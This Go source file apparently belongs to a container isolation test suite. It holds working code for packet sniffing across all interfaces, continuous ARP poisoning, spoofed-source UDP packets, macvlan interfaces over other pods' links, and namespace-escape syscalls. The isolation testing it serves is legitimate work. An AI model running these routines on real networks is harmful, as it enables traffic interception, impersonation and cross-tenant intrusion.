package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"strconv"
	"time"

	"github.com/vishvananda/netlink/nl"
	"golang.org/x/sys/unix"
)

// everything is ETH_P_ALL in network order.
const everything = unix.ETH_P_ALL<<8 | unix.ETH_P_ALL>>8

// sniff reads all frames of all interfaces and prints the first sight of each word.
func sniff(words []string) error {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, everything)
	if err != nil {
		return fmt.Errorf("no packet socket: %w", err)
	}
	fmt.Println("sniffing")
	frame := make([]byte, 1<<17)
	for {
		n, from, err := unix.Recvfrom(fd, frame, 0)
		if err != nil {
			return err
		}
		rest := words[:0]
		for _, w := range words {
			if !bytes.Contains(frame[:n], []byte(w)) {
				rest = append(rest, w)
				continue
			}
			link, err := net.InterfaceByIndex(from.(*unix.SockaddrLinklayer).Ifindex)
			if err != nil {
				return err
			}
			fmt.Println("saw", w, "on", link.Name)
		}
		words = rest
	}
}

// claim tells all on the link, many times a second, that the addresses are this pod's.
func claim(addrs []string) error {
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, 0)
	if err != nil {
		return fmt.Errorf("no packet socket: %w", err)
	}
	everyone := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	for first := true; ; first = false {
		for _, a := range addrs {
			for _, operation := range []uint16{1, 2} { // request and reply
				to := unix.SockaddrLinklayer{Ifindex: link.Index}
				if err := unix.Sendto(fd, arp(operation, link.HardwareAddr, everyone, netip.MustParseAddr(a)), 0, &to); err != nil {
					return err
				}
			}
		}
		if first {
			fmt.Println("claiming")
		}
		time.Sleep(5 * time.Millisecond) // the attack goes on at this pace; no check waits for it
	}
}

// arp is a frame that says an address is at the sender's.
func arp(operation uint16, from, to net.HardwareAddr, addr netip.Addr) []byte {
	ip := addr.As4()
	frame := append(append([]byte{}, to...), from...)
	frame = binary.BigEndian.AppendUint16(frame, unix.ETH_P_ARP)
	frame = append(frame, 0, 1, 8, 0, 6, 4)
	frame = binary.BigEndian.AppendUint16(frame, operation)
	frame = append(append(frame, from...), ip[:]...)
	return append(append(frame, to...), ip[:]...)
}

// listen prints the sender and the content of each UDP packet to an address.
func listen(addr string) error {
	c, err := net.ListenPacket("udp4", addr)
	if err != nil {
		return err
	}
	fmt.Println("listening")
	buf := make([]byte, 65535)
	for {
		n, from, err := c.ReadFrom(buf)
		if err != nil {
			return err
		}
		fmt.Printf("%s says %s\n", from, buf[:n])
	}
}

// spoof sends a UDP packet under another's address.
func spoof(from, to, text string) error {
	source, target := netip.MustParseAddrPort(from), netip.MustParseAddrPort(to)
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW) // the header is the caller's
	if err != nil {
		return fmt.Errorf("no raw socket: %w", err)
	}
	src, dst := source.Addr().As4(), target.Addr().As4()
	packet := []byte{0x45, 0, 0, 0, 0, 0, 0, 0, 64, unix.IPPROTO_UDP, 0, 0} // the kernel fills in the length and the sum
	packet = append(append(packet, src[:]...), dst[:]...)
	packet = binary.BigEndian.AppendUint16(packet, source.Port())
	packet = binary.BigEndian.AppendUint16(packet, target.Port())
	packet = binary.BigEndian.AppendUint16(packet, uint16(8+len(text)))
	packet = append(append(packet, 0, 0), text...) // no sum
	if err := unix.Sendto(fd, packet, 0, &unix.SockaddrInet4{Addr: dst}); err != nil {
		return fmt.Errorf("send from %s: %w", from, err)
	}
	fmt.Println("sent", text)
	return nil
}

// repeat asks a UDP server as often as told and prints what it never said otherwise.
func repeat(addr, times, text string) error {
	n, err := strconv.Atoi(times)
	if err != nil {
		return err
	}
	for range n {
		c, err := net.Dial("udp4", addr)
		if err != nil {
			return err
		}
		_ = c.SetDeadline(time.Now().Add(limit))
		if _, err := c.Write([]byte(text)); err != nil {
			return err
		}
		answer := make([]byte, 1000)
		got, err := c.Read(answer)
		if err != nil {
			return fmt.Errorf("no answer from %s: %w", addr, err)
		}
		_ = c.Close()
		if string(answer[:got]) != "server "+text {
			return fmt.Errorf("%s says %q", addr, answer[:got])
		}
		time.Sleep(20 * time.Millisecond) // spreads the questions over the attack; no check waits for it
	}
	fmt.Println("answered each time")
	return nil
}

// reach tries to lay an interface of this pod over each of those at the other end of its own one, where other pods' links are.
func reach() error {
	var made int
	var last error
	for index := 2; index < 64; index++ {
		req := nl.NewNetlinkRequest(unix.RTM_NEWLINK, unix.NLM_F_CREATE|unix.NLM_F_EXCL|unix.NLM_F_ACK)
		req.AddData(nl.NewIfInfomsg(unix.AF_UNSPEC))
		req.AddData(nl.NewRtAttr(unix.IFLA_IFNAME, nl.ZeroTerminated("over"+strconv.Itoa(index))))
		req.AddData(nl.NewRtAttr(unix.IFLA_LINK, nl.Uint32Attr(uint32(index))))
		req.AddData(nl.NewRtAttr(unix.IFLA_LINK_NETNSID, nl.Uint32Attr(0)))
		info := nl.NewRtAttr(unix.IFLA_LINKINFO, nil)
		info.AddRtAttr(nl.IFLA_INFO_KIND, nl.NonZeroTerminated("macvlan"))
		req.AddData(info)
		if _, err := req.Execute(unix.NETLINK_ROUTE, 0); err != nil {
			last = err
		} else {
			made++
		}
	}
	fmt.Println("interfaces made:", made)
	return last
}

// others tries the calls that open namespaces which no file of this pod leads to. The first uses an ordinary file, so that a
// refusal does not depend on the kernel. The second needs Linux 6.18 to succeed.
func others() error {
	file, err := unix.Open("/dev/null", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(file), 0x8010b70b, 0) // NS_MNT_GET_NEXT
	fmt.Println("next mount namespace:", errno)
	network, err := unix.Open("/proc/self/ns/net", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	handle, _, err := unix.NameToHandleAt(network, "", unix.AT_EMPTY_PATH)
	if err != nil { // this kernel has none for namespaces
		handle = unix.NewFileHandle(1, make([]byte, 8))
	}
	const root = -10003 // FD_NSFS_ROOT
	_, err = unix.OpenByHandleAt(root, handle, unix.O_RDONLY)
	fmt.Println("network by handle:", err)
	return nil
}
